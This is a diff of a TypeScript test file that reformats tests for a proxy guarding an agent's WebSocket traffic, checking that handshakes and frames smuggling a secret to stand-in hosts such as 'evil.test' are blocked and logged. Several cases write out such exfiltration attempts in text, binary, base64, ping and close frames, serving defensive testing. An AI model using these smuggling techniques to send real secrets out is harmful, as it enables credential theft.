@@ -20,7 +20,20 @@ const scratch = brokerForFile("av-wsframes-", (broker) => (B = broker));
 async function openWs(host: string, path: string, extra: string[] = [], proxyAuth?: string): Promise<{ conn: HttpConnection; res: RawResponse }> {
   const conn = await B.tunnel(host, proxyAuth);
   const key = randomBytes(16).toString("base64");
-  conn.socket.write([`GET ${path} HTTP/1.1`, `Host: ${host}`, "Upgrade: websocket", "Connection: Upgrade", `Sec-WebSocket-Key: ${key}`, "Sec-WebSocket-Version: 13", "Authorization: Bearer placeholder", ...extra, "", ""].join("\r\n"));
+  conn.socket.write(
+    [
+      `GET ${path} HTTP/1.1`,
+      `Host: ${host}`,
+      "Upgrade: websocket",
+      "Connection: Upgrade",
+      `Sec-WebSocket-Key: ${key}`,
+      "Sec-WebSocket-Version: 13",
+      "Authorization: Bearer placeholder",
+      ...extra,
+      "",
+      "",
+    ].join("\r\n"),
+  );
   const res = await readResponse(conn.reader);
   B.outputs.push(res.text, JSON.stringify(res.headers));
   return { conn, res };
@@ -74,7 +87,19 @@ describe("the handshake is a request like any other", () => {
   test("a handshake with a body is refused before anything is sent", async () => {
     const conn = await B.tunnel("evil.test");
     const mark = B.upstream.wire.length;
-    conn.socket.write(["GET /ws/body HTTP/1.1", "Host: evil.test", "Upgrade: websocket", "Connection: Upgrade", `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}`, "Sec-WebSocket-Version: 13", `Content-Length: ${B.secret.length}`, "", B.secret].join("\r\n"));
+    conn.socket.write(
+      [
+        "GET /ws/body HTTP/1.1",
+        "Host: evil.test",
+        "Upgrade: websocket",
+        "Connection: Upgrade",
+        `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}`,
+        "Sec-WebSocket-Version: 13",
+        `Content-Length: ${B.secret.length}`,
+        "",
+        B.secret,
+      ].join("\r\n"),
+    );
     const res = await readResponse(conn.reader);
     expect(res.status).toBe(400);
     await Bun.sleep(100);
@@ -100,7 +125,11 @@ describe("the handshake is a request like any other", () => {
 describe("toward the upstream: a message carrying a value closes with 1008 before it leaves", () => {
   const cases: [string, string, (conn: HttpConnection) => void][] = [
     ["in a text frame, to a guarded non-service host", "evil.test", (c) => c.socket.write(wsFrame(`{"leak":"${B.secret}"}`, { mask: true }))],
-    ["in a binary frame, to another service's host", "api.other.test", (c) => c.socket.write(wsFrame(Buffer.concat([randomBytes(7), Buffer.from(B.secret), randomBytes(5)]), { opcode: 0x2, mask: true }))],
+    [
+      "in a binary frame, to another service's host",
+      "api.other.test",
+      (c) => c.socket.write(wsFrame(Buffer.concat([randomBytes(7), Buffer.from(B.secret), randomBytes(5)]), { opcode: 0x2, mask: true })),
+    ],
     ["base64'd in a text frame", "evil.test", (c) => c.socket.write(wsFrame(Buffer.from(`x:${B.secret}`).toString("base64"), { mask: true }))],
     ["in a ping's payload", "evil.test", (c) => c.socket.write(wsFrame(B.secret, { opcode: 0x9, mask: true }))],
     ["in a close frame's reason", "evil.test", (c) => c.socket.write(wsFrame(Buffer.concat([Buffer.from([0x03, 0xe8]), Buffer.from(B.secret)]), { opcode: 0x8, mask: true }))],
@@ -304,7 +333,11 @@ test("a real client (Bun's WebSocket through the proxy, as the agent): echo scru
   const script = join(scratch, "real-client.mjs");
   writeFileSync(script, REAL_CLIENT);
   openToAgent(scratch);
-  const proc = Bun.spawn(asAgent([process.execPath, script, `http://${B.token}:default@127.0.0.1:${B.server.mitmPort}`, B.trust[0]!, B.secret]), { stdout: "pipe", stderr: "pipe", env: { PATH: process.env.PATH ?? "/usr/bin:/bin" } });
+  const proc = Bun.spawn(asAgent([process.execPath, script, `http://${B.token}:default@127.0.0.1:${B.server.mitmPort}`, B.trust[0]!, B.secret]), {
+    stdout: "pipe",
+    stderr: "pipe",
+    env: { PATH: process.env.PATH ?? "/usr/bin:/bin" },
+  });
   const [stdout, stderr] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
   B.outputs.push(stdout, stderr);
   const out = JSON.parse(stdout.trim().split("\n").pop() ?? "{}") as { echo: string[]; evilOpened: boolean; evilClose: { code: number; reason: string } };
@@ -318,7 +351,9 @@ test("a real client (Bun's WebSocket through the proxy, as the agent): echo scru
 
 test("blocked messages are in the request log as blocked, with the key and never the value", async () => {
   await Bun.sleep(200);
-  const lines = B.log().split("\n").filter((l) => l.includes('"blocked"') && l.includes("/ws/block-"));
+  const lines = B.log()
+    .split("\n")
+    .filter((l) => l.includes('"blocked"') && l.includes("/ws/block-"));
   expect(lines.length).toBeGreaterThanOrEqual(7);
   for (const line of lines) expect(JSON.parse(line) as object).toMatchObject({ status: 403, error: "credential_exfiltration" });
   expectNothingOf(B.log());
